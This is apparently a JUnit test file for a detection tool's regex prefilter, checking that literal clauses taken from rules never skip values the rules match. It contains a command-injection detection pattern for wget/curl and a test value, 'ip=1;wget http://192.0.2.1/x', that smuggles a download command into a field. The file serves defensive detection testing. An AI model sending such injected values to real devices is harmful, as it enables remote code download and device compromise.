package org.probehunt.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.re2j.Matcher;
import com.google.re2j.Pattern;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.probehunt.detect.LiteralClauses.Need;

class LiteralClausesTest {
  private static final String SPACE = " \t\n\f\r\u000b+";

  @Test
  void looksIntoGroupsOfWordsAndTheClassAfterThem() {
    List<List<Need>> clauses = LiteralClauses.of(";[\\s\\v+]*(?:wget|curl)[\\s\\v+]+[^\\s\\v]");
    assertEquals(
        List.of(
            List.of(new Need(";", null)),
            List.of(new Need("wget", SPACE), new Need("curl", SPACE))),
        clauses);
  }

  @Test
  void knowsNothingOfWhatItCannotRead() {
    assertEquals(List.of(), LiteralClauses.of("(?i)abc"));
    assertEquals(List.of(), LiteralClauses.of("a|."));
    assertEquals(List.of(), LiteralClauses.of("\\Qab\\E"));
    assertEquals(List.of(), LiteralClauses.of("(a*)+$"));
  }

  @Test
  void aNeedWithAFollowingClassWantsOneOfItsCharacters() {
    Need wget = new Need("wget", SPACE);
    assertFalse(wget.in("&&wget"));
    assertFalse(wget.in("wgetx;wget"));
    assertTrue(wget.in("wgetx;wget+http"));
  }

  /** The worst-case benchmark's line of shell metacharacters skips the command-word regexes. */
  @Test
  void aValueOfShellMetacharactersSkipsTheCommandRegexes() {
    String value = "c=" + ";|`$(&&".repeat(1_000) + "wget";
    Rule download = rule("iot-command-download");
    for (String regex : download.patterns()) {
      assertFalse(mayMatch(regex, value), regex);
    }
    assertTrue(mayMatch(download.patterns().get(0), "ip=1;wget http://192.0.2.1/x"));
  }

  /**
   * A value a default regex matches is never skipped: random values made of each regex's own words
   * and characters, so that many of them do match, and the rules' example lines.
   */
  @Test
  void noValueADefaultRegexMatchesIsSkipped() {
    Random random = new Random(16);
    int matched = 0;
    for (Rule rule : RuleSet.defaults().rules()) {
      if (rule.kind() != MatchKind.REGEX) {
        continue;
      }
      for (String regex : rule.patterns()) {
        List<String> pieces = pieces(regex);
        Pattern pattern = Patterns.compile(regex);
        for (int i = 0; i < 2_000; i++) {
          StringBuilder value = new StringBuilder();
          for (int j = 1 + random.nextInt(8); j > 0; j--) {
            value.append(pieces.get(random.nextInt(pieces.size())));
          }
          String v = value.toString();
          Matcher m = pattern.matcher(v);
          if (m.find()) {
            matched++;
            assertTrue(mayMatch(regex, v), regex + " matches '" + v + "' but would skip it");
          }
        }
        for (RuleExample example : rule.examples()) {
          String line = example.request().requestLine();
          line = line == null ? "" : line.toLowerCase(Locale.ROOT);
          if (pattern.matcher(line).find()) {
            matched++;
            assertTrue(mayMatch(regex, line), regex + " matches '" + line + "'");
          }
        }
      }
    }
    assertTrue(matched > 400, "too few values matched: " + matched);
  }

  /** The regex's words whole and its other characters one by one, with spaces and '+'. */
  private static List<String> pieces(String regex) {
    List<String> pieces = new ArrayList<>(List.of(" ", "+", "\t", "/", "1"));
    for (String word : regex.toLowerCase(Locale.ROOT).split("[^a-z0-9_]+", -1)) {
      if (!word.isEmpty()) {
        pieces.add(word);
      }
    }
    regex
        .chars()
        .filter(c -> c > ' ' && c < 127 && !Character.isLetterOrDigit(c) && c != '\\')
        .distinct()
        .forEach(c -> pieces.add(String.valueOf((char) c)));
    return pieces;
  }

  private static boolean mayMatch(String regex, String value) {
    List<String> needs = RequiredLiterals.of(regex);
    if (!needs.isEmpty() && needs.stream().noneMatch(value::contains)) {
      return false;
    }
    return LiteralClauses.of(regex).stream()
        .allMatch(clause -> clause.stream().anyMatch(need -> need.in(value)));
  }

  private static Rule rule(String id) {
    return RuleSet.defaults().rules().stream()
        .filter(r -> r.id().equals(id))
        .findFirst()
        .orElseThrow();
  }
}
